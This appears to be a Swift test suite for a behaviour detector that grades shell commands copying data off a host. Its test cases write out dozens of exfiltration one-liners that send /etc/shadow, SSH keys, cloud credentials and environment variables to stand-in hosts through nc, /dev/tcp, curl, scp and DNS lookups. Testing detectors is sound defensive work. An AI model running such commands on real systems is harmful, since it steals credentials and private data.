import Bytes
import Evidence
import Testing

@testable import Detectors

/// What leaves the host, and by whose hand.
@Suite struct ExfiltrationTests {
  private func worst(_ command: String, _ rules: Set<String>) -> Severity? {
    command.withView { BehaviourDetector().scan($0, .command) }
      .filter { rules.contains(String($0.rule.dropFirst("behaviour.".count))) }.map(\.severity).max()
  }

  @Test(
    arguments: [
      ("aws s3 cp /etc/shadow s3://x-drop/", .high), ("aws s3 cp ~/.ssh/id_rsa s3://x-drop/k --no-progress", .high),
      ("tar czf /tmp/.l.tgz /var/www && aws s3 cp /tmp/.l.tgz s3://x-drop/", .medium),
      ("rclone copy /root/.aws/credentials drop:loot", .high), ("scp /etc/shadow x@203.0.113.7:/tmp/", .high),
      ("rsync -az ~/.ssh/id_ed25519 x@203.0.113.7:", .high),
      ("tar czf /tmp/d.tgz /srv; scp -P 2222 /tmp/d.tgz x@203.0.113.7:/d", .high),
      ("aws s3 sync /var/www s3://site-drop", .informational), ("gsutil cp /root/.kube/config gs://drop/", .high),
      ("0 2 * * * root aws s3 cp /srv/backup/db.sql.gz s3://acme-backup/db/", .informational),
    ] as [(String, Severity)])
  func copiesOut(command: String, severity: Severity) { #expect(worst(command, ["copy-out"]) == severity) }

  @Test(
    arguments: [
      ("cat /etc/shadow | nc 203.0.113.7 9000", .high), ("nc 203.0.113.7 9000 < /etc/shadow", .high),
      ("nc 203.0.113.7 9000 < /srv/db.sql", .medium), ("cat ~/.ssh/id_rsa > /dev/tcp/203.0.113.7/443", .high),
      ("cat /etc/shadow | base64 -w0 > /dev/tcp/203.0.113.7/443", .high),
      ("tar cz /root/.ssh | ssh x@203.0.113.7 'cat > k'", .high),
      ("cat /etc/shadow | curl -s -d @- http://203.0.113.7/", .high),
      ("for b in $(xxd -p -c 20 /etc/shadow); do dig $b.x.example; done", .high),
      ("env | curl -X POST --data-binary @- http://203.0.113.7/", .high), ("env | nc 203.0.113.7 99", .high),
      ("printenv | base64 | curl -d @- http://10.0.0.7/", .medium), ("env | nc drop.example 99", .medium),
      ("curl -d \"$(env)\" http://203.0.113.7/", .high),
      ("curl -d \"$(cat /etc/passwd)\" http://203.0.113.7/", .medium),
      ("curl http://203.0.113.7/?d=$(cat ~/.aws/credentials|base64 -w0)", .high),
      ("wget --header=\"X: `cat /etc/shadow`\" http://203.0.113.7/", .high),
    ] as [(String, Severity)])
  func sendsOverABareConnection(command: String, severity: Severity) {
    #expect(worst(command, ["raw-copy-out"]) == severity)
  }

  @Test(
    arguments: [
      ("curl -T /etc/shadow http://203.0.113.7/", .high),
      ("curl -F file=@/root/.ssh/id_rsa https://drop.example/", .high),
      ("curl --data-binary @/root/.aws/credentials https://drop.example/", .high),
      ("curl -T /srv/www.tgz http://203.0.113.7/", .medium), ("curl -T /srv/www.tgz https://dav.example/", .low),
    ] as [(String, Severity)])
  func uploads(command: String, severity: Severity) { #expect(worst(command, ["archive-upload"]) == severity) }

  @Test(arguments: [
    "scp -i ~/.ssh/id_ed25519 a.tgz ops@10.0.0.9:", "scp ops@203.0.113.7:/etc/hosts .", "rsync -a /srv/ web2:/srv/",
    "rsync -e 'ssh -i ~/.ssh/id_rsa' -a /srv/ web2:/srv/", "aws s3 cp s3://acme/app.tgz /opt/",
    "aws s3 sync s3://a s3://b",
    "aws s3 ls s3://acme/", "scp ~/.ssh/id_rsa.pub ops@203.0.113.7:", "tar cz . | ssh backup 'tar xz -C /srv'",
    "nc -l 9000 > f", "nc -lp 9000 < /srv/f", "echo stats | nc localhost 11211", "cat < /dev/tcp/203.0.113.7/13",
    "echo x > /dev/tcp/203.0.113.7/514", "curl -d @- http://localhost:9200/_bulk", "dig example.com",
    "for h in a b; do dig $h.example.com; done", "cat /etc/hosts | ssh web2 'cat > /etc/hosts'",
    "dd if=/dev/sda | nc 10.0.0.2 9000", "tar czf - /srv | nc 10.0.0.8 9000", "env | sort", "env | grep PATH",
    "curl -H \"Authorization: Bearer $(cat /run/secrets/token)\" https://203.0.113.7:6443/api",
    "curl -H \"X-Key: $(cat /run/secrets/key)\" https://api.example.com/",
    "curl -d \"$(cat /srv/b.json)\" http://10.0.0.3/",
  ])
  func copiesOfEveryDay(command: String) {
    #expect((worst(command, ["copy-out", "raw-copy-out", "archive-upload"]) ?? .informational) <= .low)
  }
}
